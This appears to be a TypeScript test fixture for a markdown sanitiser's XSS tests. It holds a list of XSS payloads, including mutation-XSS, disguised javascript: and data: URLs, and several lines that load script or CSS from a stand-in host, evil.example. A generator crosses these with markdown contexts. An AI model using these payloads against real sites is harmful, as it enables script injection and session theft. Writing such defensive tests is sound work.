// Hostile inputs for the XSS tests: payloads crossed with the markdown contexts they may hide in.
// Every payload that would run sets `window.__xss` (or opens a dialog), so the browser test can
// tell whether anything ran at all.

/** Markup payloads: script, handlers, namespace confusion, mutation XSS, comments and CDATA. */
export const MARKUP_PAYLOADS = [
  '<script>window.__xss=1</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>window.__xss=1</scr</script>ipt>',
  '<img src=x onerror="window.__xss=1">',
  '<img src=x oNeRrOr=alert(1)>',
  '<img/src=x/onerror=window.__xss=1>',
  '<svg onload=window.__xss=1>',
  '<svg><script>window.__xss=1</script></svg>',
  '<svg><a xlink:href="javascript:window.__xss=1"><text y="20">x</text></a></svg>',
  '<svg><style><img src=x onerror=window.__xss=1></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>',
  '<math><mi xlink:href="javascript:window.__xss=1">x</mi></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__xss=1>',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
  '<svg></p><style><a id="</style><img src=1 onerror=window.__xss=1>">',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<iframe src="javascript:parent.__xss=1"></iframe>',
  '<object data="javascript:window.__xss=1"></object>',
  '<embed src="data:text/html,<script>window.__xss=1</script>">',
  '<form action="javascript:window.__xss=1"><button>go</button></form>',
  '<button form=f formaction="javascript:window.__xss=1">x</button>',
  '<style>@import "//evil.example/x.css"; body{background:url(javascript:alert(1))}</style>',
  '<base href="//evil.example/">',
  '<a href="javascript:window.__xss=1">x</a>',
  '<a href="jav&#x09;ascript:window.__xss=1">x</a>',
  '<!--<img src=x onerror=window.__xss=1>-->',
  '<!--><img src=x onerror=window.__xss=1>-->',
  '<![CDATA[><img src=x onerror=window.__xss=1>]]>',
  '<details open ontoggle=window.__xss=1>',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
  '"><img src=x onerror=window.__xss=1>',
  "'onmouseover='window.__xss=1",
  '<textarea></textarea><img src=x onerror=window.__xss=1>',
  '<title></title><img src=x onerror=window.__xss=1>',
  '<video><source onerror=window.__xss=1></video>',
  '<input autofocus onfocus=window.__xss=1>',
  '<body onload=window.__xss=1>',
  '<a href=# onclick=window.__xss=1>click</a>',
];

/** Script-bearing URLs, with entity, case, whitespace and control-character disguises. */
export const URL_PAYLOADS = [
  'javascript:window.__xss=1',
  'JaVaScRiPt:window.__xss=1',
  ' javascript:window.__xss=1',
  'java\tscript:window.__xss=1',
  '&#106;avascript:window.__xss=1',
  '&#x6A;avascript:window.__xss=1',
  '&#0000106avascript:window.__xss=1',
  'javascript&colon;window.__xss=1',
  'jav&#x0A;ascript:window.__xss=1',
  'javascript://%0Awindow.__xss=1',
  '\u0001javascript:window.__xss=1',
  '\u00a0javascript:window.__xss=1',
  'vbscript:msgbox(1)',
  'VBScript:msgbox(1)',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==',
  'data:text/html,<script>window.__xss=1</script>',
  'DATA:image/svg+xml,<svg onload=window.__xss=1>',
  'data:image/png;base64,iVBORw0KGgo=',
  '//evil.example/x',
  '/\\evil.example/x',
];

/** Where a payload can sit in markdown; `value` is spliced in as written. */
export const CONTEXTS: Record<string, (value: string) => string> = {
  plain: (value) => `Look at this: ${value} ok`,
  link: (value) => `[click](${value})`,
  'link in angle brackets': (value) => `[click](<${value}>)`,
  'link with title': (value) => `[click](${value} "${value}")`,
  image: (value) => `![pic](${value})`,
  autolink: (value) => `<${value}>`,
  reference: (value) => `[click][ref] and ![pic][ref]\n\n[ref]: ${value}`,
  'inline code': (value) => `run \`${value}\` now`,
  'fenced code': (value) => `\`\`\`html\n${value}\n\`\`\``,
  'fence info string': (value) => `\`\`\`${value}\nbody\n\`\`\``,
  heading: (value) => `# ${value}`,
  table: (value) => `| a | b |\n|---|---|\n| ${value} | [x](${value}) |`,
  'nested emphasis': (value) => `***${value}*** _**~~${value}~~**_`,
  'quoted list': (value) => `> - ${value}\n>   1. [y](${value})`,
};

export type Vector = { name: string; markdown: string };

/** Every payload in every context: a few hundred vectors. */
export function xssVectors(): Vector[] {
  const vectors: Vector[] = [];
  for (const [contextName, wrap] of Object.entries(CONTEXTS)) {
    [...MARKUP_PAYLOADS, ...URL_PAYLOADS].forEach((payload, index) => {
      vectors.push({ name: `${contextName} #${index}: ${JSON.stringify(payload).slice(0, 60)}`, markdown: wrap(payload) });
    });
  }
  return vectors;
}
